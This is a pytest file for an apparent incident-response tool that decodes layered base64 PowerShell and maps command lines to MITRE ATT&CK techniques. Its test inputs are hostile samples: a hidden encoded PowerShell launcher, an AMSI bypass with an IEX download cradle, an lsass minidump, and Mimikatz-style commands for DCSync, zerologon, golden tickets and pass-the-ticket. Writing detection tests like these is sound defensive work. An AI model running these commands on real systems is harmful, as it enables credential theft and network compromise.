"""Reading scripts and command lines: layers of base64, features, addresses."""

import base64

import pytest

from ircopilot.analysis.story.scripts import decode_layers, read_script


def encoded(text: str, encoding: str = "utf-16-le") -> str:
    return base64.b64encode(text.encode(encoding)).decode()


def test_an_encoded_command_inside_an_encoded_command() -> None:
    inner = encoded("http://198.51.100.9:443/")
    outer = encoded(f"$s=[Convert]::FromBase64String('{inner}');$t='/login/get.php'")
    reading = read_script(f"powershell -NoP -W Hidden -Enc {outer}")
    assert "http://198.51.100.9:443/" in reading.urls
    assert reading.server_paths == ("/login/get.php",)
    assert reading.ips == ("198.51.100.9",)


def test_what_is_not_text_is_not_decoded() -> None:
    assert decode_layers(base64.b64encode(bytes(range(256))).decode()) == []
    assert decode_layers("A" * (1 << 21)) == []


def test_features_carry_their_techniques() -> None:
    reading = read_script(
        "[Ref].Assembly.GetType('x').GetField('amsiInitFailed'); IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')"
    )
    assert {"T1685", "T1105", "T1059.001"} <= set(reading.techniques)


def test_naming_lsass_alone_shows_nothing() -> None:
    assert read_script("tasklist | findstr lsass").techniques == ()
    assert "T1003.001" in read_script("Get-Process lsass | Out-Minidump").techniques


def test_ordinary_commands_say_nothing() -> None:
    reading = read_script(r"C:\Windows\System32\svchost.exe -k netsvcs -p")
    assert (reading.features, reading.urls, reading.decoded) == ((), (), "")


@pytest.mark.parametrize(
    ("command", "technique"),
    [
        ('m.exe "lsadump::sam" exit', "T1003.002"),
        ('m.exe "lsadump::dcsync /user:krbtgt" exit', "T1003.006"),
        ('m.exe "lsadump::zerologon /target:dc9.example /exploit" exit', "T1210"),
        ('m.exe "kerberos::golden /user:x /id:500" exit', "T1558.001"),
        ("r.exe ptt /ticket:C:\\t.kirbi", "T1550.003"),
    ],
)
def test_a_credential_tools_word_says_what_it_is_for(command: str, technique: str) -> None:
    assert read_script(command).techniques == (technique,)


def test_a_module_that_names_the_wmi_method_starts_nothing() -> None:
    assert (
        "T1047" not in read_script("Set-Alias -Name icim -Value Invoke-CimMethod -Option ReadOnly, AllScope").techniques
    )
    started = "Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='calc'}"
    assert "T1047" in read_script(started).techniques


def test_a_service_that_is_switched_off_is_read() -> None:
    assert "T1489" in read_script("Set-Service -Name sensorhub -StartupType Disabled").techniques
    assert "T1489" in read_script("sc.exe config sensorhub start= disabled").techniques
